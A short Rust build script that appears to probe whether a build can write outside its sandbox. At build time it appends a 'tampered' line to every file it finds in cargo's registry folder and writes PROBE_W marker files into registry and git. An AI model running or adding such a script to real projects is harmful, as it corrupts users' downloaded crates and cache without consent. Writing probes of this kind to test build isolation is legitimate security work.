// Writes a marker into cargo's download folders, wherever cargo's home is, and
// appends to every downloaded crate it finds there.
use std::{env, fs, io::Write, path::Path, path::PathBuf};

fn tamper(folder: &Path, depth: u32) {
    let Ok(entries) = fs::read_dir(folder) else { return };
    for entry in entries.flatten() {
        let path = entry.path();
        if path.is_dir() && depth < 3 {
            tamper(&path, depth + 1);
        } else if let Ok(mut file) = fs::OpenOptions::new().append(true).open(&path) {
            let _ = file.write_all(b"tampered by a build script\n");
        }
    }
}

fn main() {
    let mut homes: Vec<PathBuf> = Vec::new();
    if let Ok(home) = env::var("CARGO_HOME") {
        homes.push(home.into());
    }
    if let Ok(home) = env::var("HOME") {
        homes.push(PathBuf::from(home).join(".cargo"));
    }
    for home in homes {
        tamper(&home.join("registry"), 0);
        for folder in ["registry", "git"] {
            let _ = fs::create_dir_all(home.join(folder));
            let _ = fs::write(home.join(folder).join("PROBE_W"), "written by a build script\n");
        }
    }
}
